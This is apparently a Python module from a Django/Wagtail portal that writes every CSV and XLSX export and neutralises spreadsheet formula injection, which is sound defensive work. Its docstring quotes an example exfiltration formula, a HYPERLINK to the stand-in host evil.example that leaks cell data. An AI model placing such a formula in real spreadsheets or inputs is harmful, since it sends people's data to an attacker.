"""The one spreadsheet writer: every CSV and XLSX file the portal sends is written here.

Why one writer. A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula,
so text a resident typed (a survey answer, an organisation's or an attendee's name) could
become `=HYPERLINK("http://evil.example/?leak="&A1,"Click")` on an officer's screen and send
the rest of the row away when clicked ("CSV injection"). Every export builds plain rows and
hands them to the functions below; no other module writes CSV or XLSX
(`tests/architecture/test_spreadsheets.py` checks the source tree).

What it does to a cell (`safe_cell`), following OWASP's advice on CSV injection:
- Text that a spreadsheet could read as a formula gets a single quote in front: text starting
  with `=`, `+`, `-`, `@`, tab, carriage return or line feed, their full-width forms
  (`＝＋－＠`, which some spreadsheets read as formulas), or any of them after leading
  whitespace. The quote shows in the cell, so a reader sees exactly what was typed after it.
- Text that is nothing but a plain number (`-3`, `+44`, `-0.276000`) is left alone: a
  spreadsheet reads it as that number and can run nothing. So is a real number (`int`,
  `float`, `Decimal`): a negative count written as the number -3 is not a formula.
- Text that already starts with quotes in front of such a cell gets one more, so `restore`
  (used by importers reading the portal's own CSV back) undoes exactly what was added.

CSV files quote every text cell (`csv.QUOTE_NONNUMERIC`), so a spreadsheet whose list
separator is `;` or a tab cannot split `a;=1+1` into a second, formula cell. They have no
byte-order mark unless asked for (`bom=True`), as the exports always had.

XLSX cells holding text are written as string cells (`data_type "s"`), so openpyxl never
stores text starting with `=` as a formula, and get the same quote as in CSV (it survives
"Save as CSV" from the spreadsheet). Characters XML cannot carry become U+FFFD and text is cut
at Excel's 32,767 characters a cell, with "…" at the end, instead of the export failing (the
CSV keeps the whole text).

Downloads name their file through `attachment`, which keeps only a plain file name (no path,
no quotes, no control characters) and encodes anything else as RFC 6266 asks.

Wagtail's own admin reports (site history and the rest) write their CSV themselves;
`guard_wagtail_exports`, called from `PortalConfig.ready`, puts their cells through
`safe_cell` too.
"""

from __future__ import annotations

import csv
import decimal
import io
import math
import re
import unicodedata
from collections.abc import Iterable, Iterator, Sequence

from django.http import HttpResponse, StreamingHttpResponse
from django.utils.http import content_disposition_header

PREFIX = "'"
# Formula triggers, with the full-width forms some spreadsheets also read as formulas.
TRIGGERS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
# Control characters that start a cell a spreadsheet may treat as a formula (OWASP).
CONTROL_STARTS = frozenset("\t\r\n")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")
_XML_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
XLSX_CELL_LIMIT = 32_767
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"
BOM = "\ufeff"


# --- cells ------------------------------------------------------------------------------------

def _formula_like(text: str) -> bool:
    if not text or _PLAIN_NUMBER.fullmatch(text):
        return False
    return text[0] in CONTROL_STARTS or text.lstrip()[:1] in TRIGGERS


def needs_prefix(text: str) -> bool:
    """Whether `text` needs the quote: a spreadsheet could run it as a formula, or it is
    quotes in front of such text (so that `restore` can tell what the writer added)."""
    return _formula_like(text) or _formula_like(text.lstrip(PREFIX))


def neutralise(text: str) -> str:
    """Text with a quote in front if a spreadsheet could otherwise run it as a formula."""
    return PREFIX + text if needs_prefix(text) else text


def restore(text: str) -> str:
    """Undo `neutralise`: for importers reading back a CSV the portal wrote (exact inverse)."""
    if text.startswith(PREFIX) and needs_prefix(text[1:]):
        return text[1:]
    return text


def _is_number(value) -> bool:
    return isinstance(value, int | float | decimal.Decimal)


def safe_cell(value):
    """A value ready for a spreadsheet: numbers stay numbers, `None` is empty, anything else
    becomes text, neutralised."""
    if value is None:
        return ""
    if _is_number(value):
        return value
    return neutralise(str(value))


def safe_row(row: Iterable) -> list:
    return [safe_cell(value) for value in row]


# --- CSV --------------------------------------------------------------------------------------

class _Line:
    """A file that hands back what is written to it, so csv.writer yields one line a row."""

    def write(self, value):
        return value


def csv_lines(rows: Iterable[Sequence], header: Sequence | None = None, *,
              bom: bool = False) -> Iterator[str]:
    """Each row (after the header, if given) as one CSV line, every cell made safe."""
    writer = csv.writer(_Line(), quoting=csv.QUOTE_NONNUMERIC)
    if bom:
        yield BOM
    if header is not None:
        yield writer.writerow(safe_row(header))
    for row in rows:
        yield writer.writerow(safe_row(row))


def write_csv(rows: Iterable[Sequence], header: Sequence | None = None, *,
              bom: bool = False) -> str:
    """The rows as CSV text, for a file small enough to build in memory."""
    return "".join(csv_lines(rows, header, bom=bom))


def csv_response(filename: str, rows: Iterable[Sequence], header: Sequence | None = None, *,
                 stream: bool = False, bom: bool = False,
                 cache_control: str | None = None) -> HttpResponse:
    """A CSV download. `stream=True` sends it row by row (large exports, read lazily)."""
    if stream:
        response = StreamingHttpResponse(csv_lines(rows, header, bom=bom), content_type=CSV_TYPE)
    else:
        response = HttpResponse(write_csv(rows, header, bom=bom), content_type=CSV_TYPE)
    return attachment(response, filename, cache_control)


# --- XLSX -------------------------------------------------------------------------------------

def _xlsx_text(value: str) -> str:
    text = _XML_ILLEGAL.sub("\ufffd", value)
    if len(text) > XLSX_CELL_LIMIT:
        text = text[:XLSX_CELL_LIMIT - 1] + "…"
    return text


def _xlsx_cell(sheet, value):
    from openpyxl.cell import WriteOnlyCell

    value = safe_cell(value)
    if isinstance(value, float) and not math.isfinite(value):
        value = str(value)
    if _is_number(value):
        return WriteOnlyCell(sheet, value=value)
    cell = WriteOnlyCell(sheet)
    cell.value = _xlsx_text(value) if value else None
    cell.data_type = "s"  # never "f": text is never stored as a formula
    return cell


def sheet_title(title: str) -> str:
    """A worksheet name Excel accepts: no []:*?/\\, at most 31 characters, not empty."""
    cleaned = re.sub(r"[\[\]:*?/\\]", "-", _XML_ILLEGAL.sub("", str(title))).strip("'")
    return cleaned[:31] or "Sheet"


def xlsx_workbook(sheets: Iterable[tuple[str, Iterable[Sequence]]]):
    """A write-only openpyxl workbook, one worksheet per (title, rows), every cell made safe."""
    from openpyxl import Workbook  # half a second to import: only when someone exports

    workbook = Workbook(write_only=True)
    for title, rows in sheets:
        sheet = workbook.create_sheet(sheet_title(title))
        for row in rows:
            sheet.append([_xlsx_cell(sheet, value) for value in row])
    return workbook


def xlsx_bytes(sheets: Iterable[tuple[str, Iterable[Sequence]]]) -> bytes:
    out = io.BytesIO()
    xlsx_workbook(sheets).save(out)
    return out.getvalue()


def xlsx_response(filename: str, sheets: Iterable[tuple[str, Iterable[Sequence]]], *,
                  cache_control: str | None = None) -> HttpResponse:
    """An XLSX download of the sheets, each a (title, rows) pair."""
    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_TYPE)
    return attachment(response, filename, cache_control)


# --- downloads --------------------------------------------------------------------------------

def safe_filename(filename: str, default: str = "export") -> str:
    """A bare file name: no folders, quotes, control or format characters, no leading dots."""
    name = str(filename).replace("\\", "/").rsplit("/", 1)[-1]
    name = "".join(c for c in name if unicodedata.category(c)[0] != "C" and c not in '"')
    name = name.strip().lstrip(".").strip()
    stem, dot, extension = name.rpartition(".")
    if len(name) > 150:
        name = f"{stem[:140]}.{extension[:9]}" if dot and stem else name[:150]
    return name or default


def attachment(response, filename: str, cache_control: str | None = None):
    """Mark a response as a download named `filename` (made safe first)."""
    response["Content-Disposition"] = content_disposition_header(True, safe_filename(filename))
    if cache_control:
        response["Cache-Control"] = cache_control
    return response


# --- Wagtail's own admin exports --------------------------------------------------------------

def guard_wagtail_exports() -> None:
    """Make Wagtail's own admin CSV downloads (site history, locked and ageing pages,
    workflows, redirects) neutralise their cells like ours.

    They name pages, snippets and people (an asset a VCS organisation named `=HYPERLINK(...)`
    appears in the site history once an officer edits it) and Wagtail writes their CSV as it
    finds it; its XLSX already stores formula-like text as string cells. Called once from
    `PortalConfig.ready`; calling it again changes nothing.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    original = SpreadsheetExportMixin.preprocess_field_value
    if getattr(original, "neutralises_formulas", False):
        return

    def preprocess_field_value(self, field, value, export_format):
        value = original(self, field, value, export_format)
        return safe_cell(value) if export_format == self.FORMAT_CSV else value

    preprocess_field_value.neutralises_formulas = True
    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
